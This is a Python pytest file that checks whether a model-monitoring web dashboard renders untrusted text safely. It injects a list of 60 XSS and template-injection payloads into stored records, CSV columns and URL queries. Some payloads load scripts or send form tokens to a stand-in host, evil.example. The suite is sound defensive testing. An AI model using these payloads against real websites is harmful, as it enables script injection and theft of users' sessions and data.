"""S03: other people's text is shown on every page and runs on none: 60 payloads in every field that a page shows."""

from __future__ import annotations

import json
from dataclasses import replace

import pandas as pd
import pytest

import drift
from shared.domain.reason import Code, reason
from shared.inbox import unrouted
from shared.inbox.unrouted import Unrouted
from shared.loopfile import Definition
from shared.memory.data import MemoryDocuments
from shared.ports import Ports, Row
from shared.verdict import comparison
from tests.engine.world import LOOP, World, csv, season
from tests.tower.conftest import PAGES
from tests.tower.tower import checked, get, page

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "\x00<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</text></svg><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<style>@import '//evil.example/x.css'</style>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=//evil.example/x.svg#x></use></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=token></form>",
    "<button formaction=//evil.example>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=background:url(//evil.example)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "//evil.example/x",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "x onmouseover=alert(1) y",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)}#{alert(1)}",
    "\u202e<script>alert(1)</script>\u202c",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
MARK = "MARK"


def marked() -> World:
    """A loop in which MARK stands wherever somebody else's text can stand."""
    world = World()
    world.publish(LOOP.replace("loop: birds", "loop: birds\ndescription: MARK"))
    world.drop("MARK-2007.csv", csv(_with_marks(season(2007))))
    world.live()
    world.ticks(2, 120)
    world.drop("MARK-empty.csv", b"")
    world.drop("MARK-2009.csv", csv(_with_marks(season(2009, body_mass_g=0.8), "MARK-other")))
    world.ticks_with_traffic(8)
    world.alert(rule="birds-MARK")
    world.act("abort", 2, reason="MARK")
    world.ticks_with_traffic(4)
    world.ports.training.new_jobs_are = "running"
    world.act("retrain", reason="MARK")
    for _ in range(2):
        for job in world.ports.training.jobs.values():
            job.status, job.error = ("failed", "MARK") if job.status == "running" else (job.status, job.error)
        world.ticks(2)
    world.act("pause", reason="MARK")
    stray = Unrouted(reason(Code.NO_LOOP, loop="MARK"), world.clock.now())
    unrouted.put(world.ports, "x", stray)
    return world


def _with_marks(birds: pd.DataFrame, kind: str = "MARK-kind") -> pd.DataFrame:
    column = [kind if n % 3 else "plain" for n in range(len(birds))]
    return birds.assign(**{"MARK-column": column, "MARK-number": [float(n % 17) for n in range(len(birds))]})


class Spoiled:
    """Stored rows and documents with another text in MARK's place, as if it had come so from outside."""

    def __init__(self, world: World, payload: str) -> None:
        self._inside = json.dumps(payload, ensure_ascii=False)[1:-1]
        self.ports = world.ports
        self.store = type(
            "Store", (), {n: getattr(world.ports.store, n) for n in ("read", "range", "unrouted")}
        )()
        self.store.read = lambda loop, key: self._row(world.ports.store.read(loop, key))
        self.store.range = lambda *a, **k: [self._row(r) for r in world.ports.store.range(*a, **k)]
        self.store.unrouted = lambda *a, **k: [self._row(r) for r in world.ports.store.unrouted(*a, **k)]
        self.store.overview = lambda loop: self._value(world.ports.store.overview(loop))
        self.store.overviews = lambda: [self._value(o) for o in world.ports.store.overviews()]
        self.documents = _Documents(world.ports.documents, self._text)

    def as_ports(self) -> Ports:
        return replace(self.ports, store=self.store, documents=self.documents)  # type: ignore[arg-type]

    def _text(self, text: str) -> str:
        return text.replace("azureml:birds:", f"azureml:{MARK}:").replace(MARK, self._inside)

    def _row(self, row: Row | None) -> Row | None:
        return row and Row(row.key, self._text(row.doc), row.etag)

    def _value(self, value: object) -> object:
        from shared.state import rows

        spoiled = self._text(rows.encode(value))
        return rows.decode(type(value), Row("x", spoiled, ""))


class _Documents:
    def __init__(self, inner: MemoryDocuments, change: object) -> None:
        self._inner, self._change = inner, change

    def get(self, digest: str) -> bytes:
        content = self._inner.get(digest)
        return self._change(content.decode()).encode() if content[:1] == b"{" else content  # type: ignore[operator]


PATHS = (*PAGES, "/loops/birds/versions/2", "/loops/birds/releases/3", "/loops/birds/audit?release=3")


@pytest.fixture(scope="module")
def world() -> World:
    return marked()


@pytest.fixture
def compared_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Profiles hold no payload, so that two of them are compared alike each time: half a second."""
    known: dict[tuple[bytes, bytes], drift.Report] = {}
    between = comparison.between

    def once(one: drift.Profile, other: drift.Profile, definition: Definition) -> drift.Report:
        key = one.to_bytes(), other.to_bytes()
        if key not in known:
            known[key] = between(one, other, definition)
        return known[key]

    monkeypatch.setattr(comparison, "between", once)


@pytest.mark.usefixtures("compared_once")
@pytest.mark.parametrize("path", [p for p in PATHS if "versions/3" not in p])
def test_no_payload_becomes_anything_but_text(world: World, path: str) -> None:
    quiet = page(world.ports, path)
    expected = checked(quiet)
    assert expected.found == []
    for payload in PAYLOADS:
        reply = get(Spoiled(world, payload).as_ports(), path)
        assert reply.status == 200, (payload, reply.content.decode()[-500:])
        seen = checked(reply.content.decode())
        assert seen.found == [], payload
        assert len(seen.scripts) == len(expected.scripts), payload


def test_the_payloads_do_reach_the_pages(world: World) -> None:
    """Or the test above would show nothing."""
    reached = {path for path in PATHS if "versions/3" not in path and MARK in page(world.ports, path)}
    assert reached >= {"", "/loops/birds", "/loops/birds/versions/2", "/loops/birds/releases/2"}
    loop = page(world.ports, "/loops/birds")
    for text in (
        "landing/birds/MARK-2009.csv",
        "MARK-column",
        "alert rule birds-MARK",
        "failed: MARK",
        "paused by bob: MARK",
    ):
        assert text in loop, text
    version = page(world.ports, "/loops/birds/versions/2")
    assert "MARK-column" in version


def test_hostile_columns_and_categories_are_drawn_as_text() -> None:
    """Through the reader, the profile and the pictures, not by substitution."""
    world = World()
    world.publish()
    usable = [p for p in PAYLOADS if "\n" not in p and "\x00" not in p]
    birds = season(2007)
    named = {f"{p}": [float(n % 7) for n in range(len(birds))] for p in usable[:12]}
    kinds = [usable[n % 12] for n in range(len(birds))]
    world.drop("2007.csv", csv(birds.assign(**named, kind=kinds)))
    world.live()
    later = season(2009)
    named = {f"{p}": [float(n % 7) + 9 for n in range(len(later))] for p in usable[:12]}
    kinds = [usable[12 + n % 7] for n in range(len(later))]
    world.drop("2009.csv", csv(later.assign(**named, kind=kinds)))
    html = page(world.ports, "/loops/birds/versions/2")
    seen = checked(html)
    assert seen.found == []
    assert "distribution from" in html and "shares of categories" in html
    assert any("<script>alert(1)</script>" in words for words in seen.words)
    assert checked(page(world.ports, "/loops/birds")).found == []


def test_hostile_addresses_and_queries_are_text_too(world: World) -> None:
    from urllib.parse import quote

    for payload in PAYLOADS:
        for path in (
            f"/?q={quote(payload)}",
            f"/loops/birds/audit?at={quote(payload)}",
            f"/loops/{quote(payload)}",
        ):
            assert checked(get(world.ports, path).content.decode()).found == [], path
        for path in (f"/loops/birds?asked={quote(payload)}", f"/loops/birds?versions={quote(payload)}"):
            assert get(world.ports, path).status == 200
